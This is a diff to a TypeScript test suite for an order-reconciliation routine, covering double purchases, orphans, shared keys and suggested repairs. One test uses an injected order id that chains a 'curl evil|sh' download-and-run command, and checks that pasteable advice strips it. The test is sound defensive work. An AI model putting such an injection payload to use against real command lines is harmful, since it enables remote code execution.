@@ -16,13 +16,16 @@ import { hoursAgo, inBrief, NIGHT, order, plant, PLANTS, purchase, WELL } from '
 /** Its debit went with its memo; what was delivered since is known. */
 const TERMINATED = { execution: 'TERMINATED', state: 'PENDING', totalDebit: undefined };
 
+/** A purchase whose order is unknown here and found there. */
+const { purchases: HELD } = plant([PLANTS['held here, found there']!], 1);
+
 const compare = (orders: readonly PartnerOrder[], purchases: readonly KnownPurchase[]) =>
   reconcile(indexRecords(orders, purchases), NIGHT);
 
 describe('comparing the orders of the partner with the purchases here', () => {
   it.each(Object.entries(PLANTS))('finds %s, once and as nothing else', (_, situation) => {
     const { orders, purchases, expected } = plant([situation], 1);
-    expect(compare(orders, purchases).map(inBrief)).toEqual(expected.map(inBrief));
+    expect(compare(orders, purchases).map(inBrief)).toEqual(expected);
   });
 
   it.each(Object.entries(WELL))('finds nothing wrong with: %s', (_, situation) => {
@@ -35,7 +38,7 @@ describe('comparing the orders of the partner with the purchases here', () => {
     const { orders, purchases, expected } = plant([...Object.values(PLANTS), ...mostlyWell], 100_000);
     const found = compare(orders, purchases);
     expect(new Set(found.map((finding) => finding.kind))).toEqual(new Set(FINDING_KINDS));
-    expect(found.map(inBrief).toSorted()).toEqual(expected.map(inBrief).toSorted());
+    expect(found.map(inBrief).toSorted()).toEqual(expected.toSorted());
     expect(found.length).toBeGreaterThan(3_000);
   });
 
@@ -57,7 +60,7 @@ describe('comparing the orders of the partner with the purchases here', () => {
     const nameless = { ...row, id: undefined };
     const records = indexRecords([], [purchase('a')], [row, { ...row, what: 'order' }, nameless, nameless]);
     const found = reconcile(records, NIGHT);
-    expect(found.map(inBrief).toSorted()).toEqual(['UNREADABLE REF-a ord-a', 'UNREADABLE none ', 'UNREADABLE none ']);
+    expect(found.map(inBrief).toSorted()).toEqual(['UNREADABLE REF-a ord-a', 'UNREADABLE none', 'UNREADABLE none']);
   });
 
   it('names a finding of thousands of orders in a few hundred bytes, and another one as soon as there is one more', () => {
@@ -70,20 +73,18 @@ describe('comparing the orders of the partner with the purchases here', () => {
 
   it('never groups orders without a reference: each is an orphan by itself', () => {
     const nameless = [undefined, undefined, ''].map((referenceId, i) => order(`n${i}`, { referenceId }));
-    expect(compare(nameless, []).map(inBrief)).toEqual([
-      'ORPHAN none ord-n0',
-      'ORPHAN none ord-n1',
-      'ORPHAN none ord-n2',
-    ]);
+    const orphans = ['n0', 'n1', 'n2'].map((name) => `ORPHAN none ord-${name}`);
+    expect(compare(nameless, []).map(inBrief)).toEqual(orphans);
   });
 
   it('counts all but the oldest order of a held purchase as doubles, and proposes to adopt the oldest', () => {
-    const [{ purchases }] = [plant([PLANTS['held here, found there']!], 1)];
     const second = order('second', { referenceId: 'REF-0', createdAt: hoursAgo(20) });
     const first = order('first', { referenceId: 'REF-0', createdAt: hoursAgo(25) });
-    const found = compare([second, first], purchases);
-    expect(found.map(inBrief)).toEqual(['DOUBLE_PURCHASE REF-0 ord-first ord-second', 'LOST REF-0 ord-first']);
-    expect(found.map((finding) => finding.repair)).toEqual(['notify', 'adopt']);
+    const found = compare([second, first], HELD);
+    expect(found.map(inBrief)).toEqual([
+      'DOUBLE_PURCHASE notify REF-0 ord-first ord-second',
+      'LOST adopt REF-0 ord-first',
+    ]);
     expect(found[0]?.amounts).toEqual({ history: 12.34, surplus: 12.34 });
   });
 
@@ -96,17 +97,15 @@ describe('comparing the orders of the partner with the purchases here', () => {
   });
 
   it('does not adopt an order that another purchase names as its own', () => {
-    const [{ purchases }] = [plant([PLANTS['held here, found there']!], 1)];
     const named = order('x', { referenceId: 'REF-0' });
-    expect(compare([named], [...purchases, purchase('x')])).toEqual([expect.objectContaining({ kind: 'STUCK' })]);
+    expect(compare([named], [...HELD, purchase('x')])).toEqual([expect.objectContaining({ kind: 'STUCK' })]);
   });
 
   it('treats references named like object properties as any other, and shows no status that could hold a key', () => {
-    const odd = ['__proto__', 'constructor', 'toString'].map((referenceId, i) =>
-      order(`o${i}`, { referenceId, status: '1234-KEY-5678' }),
-    );
+    const names = ['__proto__', 'constructor', 'toString'];
+    const odd = names.map((referenceId) => order(referenceId, { referenceId, status: '1234-KEY-5678' }));
     const found = compare(odd, []);
-    expect(found.map((finding) => finding.kind)).toEqual(['ORPHAN', 'ORPHAN', 'ORPHAN']);
+    expect(found.map(({ kind }) => kind)).toEqual(['ORPHAN', 'ORPHAN', 'ORPHAN']);
     expect(JSON.stringify(found)).not.toContain('KEY-5678');
   });
 
@@ -149,14 +148,11 @@ describe('comparing the orders of the partner with the purchases here', () => {
   it('makes one finding of purchases that share keys, however many keys and purchases those are', () => {
     const names = Array.from({ length: 50 }, (_, i) => String(i).padStart(2, '0'));
     const keys = { 'card-50': ['k.same-1', 'k.same-2'] };
-    const found = compare(
-      names.map((name) => order(name)),
-      names.map((name) => purchase(name, { keyIds: keys })),
-    );
-    expect(found).toHaveLength(1);
-    expect(found[0]).toMatchObject({ kind: 'SAME_KEY_TWICE', referenceId: 'REF-00' });
-    expect(found[0]?.explanation).toContain('2 keys were handed over in 50 purchases');
-    expect(found[0]?.explanation).not.toContain('k.same');
+    const purchases = names.map((name) => purchase(name, { keyIds: keys }));
+    const orders = names.map((name) => order(name));
+    const explanation = expect.stringMatching(/^(?!.*k\.same).*2 keys were handed over in 50 purchases/) as string;
+    const finding = { kind: 'SAME_KEY_TWICE', referenceId: 'REF-00', explanation };
+    expect(compare(orders, purchases)).toEqual([expect.objectContaining(finding)]);
   });
 
   it('does not report the keys of the two runs of a reset as the same keys in two purchases', () => {
@@ -167,27 +163,22 @@ describe('comparing the orders of the partner with the purchases here', () => {
   it('names the reference and the order in its advice, also when either contains the word REFERENCE or ORDER', () => {
     const referenceId = 'ORDER-1001-REFERENCE';
     const order1 = order('x', { id: 'REFERENCE-ORDER-1', referenceId, status: 'FAILED' });
-    const [{ purchases }] = [plant([PLANTS['held here, found there']!], 1)];
-    const held = { ...purchases[0]!, referenceId };
+    const held = { ...HELD[0]!, referenceId };
     const delivered = purchase('x', { referenceId, orderId: order1.id });
     const adviceOn = (known: KnownPurchase) => compare([order1], [known]).map(({ advice }) => advice);
 
     expect(adviceOn(held)).toEqual([expect.stringContaining(`resolve ${referenceId} --order ${order1.id}`)]);
-    expect(adviceOn(delivered)).toEqual([
-      expect.stringContaining(`\`status ${referenceId}\` with \`orders --search ${order1.id}\``),
-    ]);
+    const compared = `\`status ${referenceId}\` with \`orders --search ${order1.id}\``;
+    expect(adviceOn(delivered)).toEqual([expect.stringContaining(compared)]);
   });
 
   it('puts no id into a command to paste that no command takes', () => {
     const id = 'X;curl evil|sh \u001B[2J\n';
-    const [{ purchases }] = [plant([PLANTS['held here, found there']!], 1)];
-    const held = { ...purchases[0]!, referenceId: 'REF-x' };
+    const held = { ...HELD[0]!, referenceId: 'REF-x' };
     const delivered = purchase('x', { referenceId: 'REF-x', orderId: id });
     for (const known of [held, delivered]) {
-      const found = compare([order('x', { id, status: 'FAILED' })], [known]);
-      expect(found).toMatchObject([
-        { orderIds: [id], advice: expect.stringMatching(/^Ask the partner [^;|\p{Cc}]+$/u) },
-      ]);
+      const advice = expect.stringMatching(/^Ask the partner [^;|\p{Cc}]+$/u) as string;
+      expect(compare([order('x', { id, status: 'FAILED' })], [known])).toMatchObject([{ orderIds: [id], advice }]);
     }
   });
 
@@ -223,34 +214,27 @@ describe('a second reading', () => {
     expect(confirmationOf(double[0]!, [...own('COMPLETED'), ...double])).toMatchObject({ kind: 'DOUBLE_PURCHASE' });
   });
 
+  /** A status in place of COMPLETED by the name of the order; an empty one is of an order that is not shown. */
+  const ordersOf = (statuses: Record<string, string>) =>
+    ['a', 'b', 'c'].flatMap((name, at) => {
+      const { [name]: status = 'COMPLETED' } = statuses;
+      return status === '' ? [] : [order(name, { referenceId: 'REF-a', status, createdAt: hoursAgo(30 - at) })];
+    });
+
   it.each<[string, Partial<KnownPurchase>, Record<string, string>, Record<string, string>, string]>([
-    ['a further order is refunded', {}, {}, { c: 'REFUNDED' }, 'DOUBLE_PURCHASE REF-a ord-a ord-b'],
-    ['a further order is none any more', {}, { c: 'REFUNDED' }, {}, 'DOUBLE_PURCHASE REF-a ord-a ord-b ord-c'],
-    [
-      'the oldest of a purchase that names none failed',
-      UNKNOWN,
-      {},
-      { a: 'FAILED' },
-      'DOUBLE_PURCHASE REF-a ord-b ord-c',
-    ],
-    ['the own order is there after all', {}, { a: '', c: '' }, { c: '' }, 'DOUBLE_PURCHASE REF-a ord-a ord-b'],
+    ['a further order is refunded', {}, {}, { c: 'REFUNDED' }, 'a b'],
+    ['a further order is none any more', {}, { c: 'REFUNDED' }, {}, 'a b c'],
+    ['the oldest of a purchase that names none failed', UNKNOWN, {}, { a: 'FAILED' }, 'b c'],
+    ['the own order is there after all', {}, { a: '', c: '' }, { c: '' }, 'a b'],
     ['no further order is billable', {}, {}, { b: 'REFUNDED', c: 'FAILED' }, ''],
-  ])(
-    'of a double purchase, or of an order that was missing, gives the double purchase of now: %s',
-    (_, known, before, now, expected) => {
-      // A status in place of COMPLETED by the name of the order; an empty one is of an order that is not shown.
-      const ordersOf = (statuses: Record<string, string>) =>
-        ['a', 'b', 'c']
-          .filter((name) => statuses[name] !== '')
-          .map((name, at) =>
-            order(name, { referenceId: 'REF-a', status: statuses[name] ?? 'COMPLETED', createdAt: hoursAgo(30 - at) }),
-          );
-      const about = ['DOUBLE_PURCHASE', 'MISSING_AT_PARTNER'];
-      const suggested = compare(ordersOf(before), [purchase('a', known)]).find(({ kind }) => about.includes(kind));
-      const confirmed = confirmationOf(suggested!, compare(ordersOf(now), [purchase('a', known)]));
-      expect(confirmed ? inBrief(confirmed) : '').toBe(expected);
-    },
-  );
+  ])('of a double purchase, or of an order that was missing, gives the double purchase of now: %s', (...row) => {
+    const [, known, before, now, expected] = row;
+    const about = ['DOUBLE_PURCHASE', 'MISSING_AT_PARTNER'];
+    const suggested = compare(ordersOf(before), [purchase('a', known)]).find(({ kind }) => about.includes(kind));
+    const confirmed = confirmationOf(suggested!, compare(ordersOf(now), [purchase('a', known)]));
+    expect(confirmed?.orderIds.join(' ') ?? '').toBe(expected.replaceAll(/\w/g, 'ord-$&'));
+    if (confirmed) expect(confirmed).toMatchObject({ kind: 'DOUBLE_PURCHASE', referenceId: 'REF-a' });
+  });
 });
 
 describe('a repair', () => {
@@ -265,38 +249,13 @@ describe('a repair', () => {
     const known = new Set(first.map(findingKey));
     expect(second.map(findingKey).filter((key) => !known.has(key))).toEqual([]);
     const ofPeople = first.filter(({ repair }) => repair === 'notify' || repair === 'notify-refund');
-    const still = new Set(second.map(findingKey));
+    const still = new Set(again.map(findingKey));
     expect(ofPeople.map(findingKey).filter((key) => !still.has(key))).toEqual([]);
     expect(ofPeople.length).toBeGreaterThan(100);
   });
 
-  it('is proposed for these kinds, and people alone can do something about the others', () => {
-    const { orders, purchases } = plant(Object.values(PLANTS), 200);
-    const repairs = new Map<string, Set<string>>();
-    for (const { kind, repair = 'none' } of compare(orders, purchases))
-      repairs.set(kind, (repairs.get(kind) ?? new Set()).add(repair));
-    const shown = [...repairs].map(([kind, some]) => [kind, [...some].toSorted().join(' ')]);
-    expect(Object.fromEntries(shown)).toEqual({
-      DOUBLE_PURCHASE: 'notify',
-      SAME_KEY_TWICE: 'none',
-      LOST: 'adopt deliver none',
-      LATE: 'deliver',
-      UNDELIVERED: 'deliver none notify',
-      MISSING_AT_PARTNER: 'none',
-      UNREADABLE: 'none',
-      ORPHAN: 'none',
-      REFUNDED_AFTER_DELIVERY: 'notify-refund',
-      KEYS_GONE: 'notify',
-      AMOUNT_MISMATCH: 'none',
-      STATUS_MISMATCH: 'none notify notify-refund',
-      SHORTFALL_FILLED: 'deliver',
-      SHORTFALL_REFUNDED: 'deliver-or-notify notify-refund',
-      STUCK: 'none',
-    });
-  });
-
   it('is not proposed for a shortfall whose order turns out to hold no new key: it is to be claimed from the partner', () => {
-    const { orders, purchases } = plant([PLANTS['half delivered, complete by now']!], 1);
+    const { orders, purchases } = plant([PLANTS['PARTIALLY_DELIVERED here, COMPLETED there']!], 1);
     const [filled] = compare(orders, purchases);
     expect(withKeysMissing(filled!)).toMatchObject({ kind: 'UNDELIVERED', orderIds: ['ord-0'] });
     expect(withKeysMissing(filled!).repair).toBeUndefined();
@@ -326,14 +285,9 @@ function repaired(
   const statuses = new Map(orders.map(({ id, status }) => [id, status]));
   return purchases.map((known) => {
     const { repair, orderIds: [orderId = ''] = [] } = byReference.get(known.referenceId) ?? {};
-    switch (repair) {
-      case 'deliver':
-        return { ...known, ordered: 2, delivered: statuses.get(orderId) === 'COMPLETED' ? 2 : 1 };
-      case 'adopt':
-        return { ...known, ...DELIVERED, orderId, hold: undefined };
-      default:
-        return known;
-    }
+    const delivered = statuses.get(orderId) === 'COMPLETED' ? 2 : 1;
+    if (repair === 'deliver') return { ...known, ordered: 2, delivered };
+    return repair === 'adopt' ? { ...known, ...DELIVERED, orderId, hold: undefined } : known;
   });
 }
 
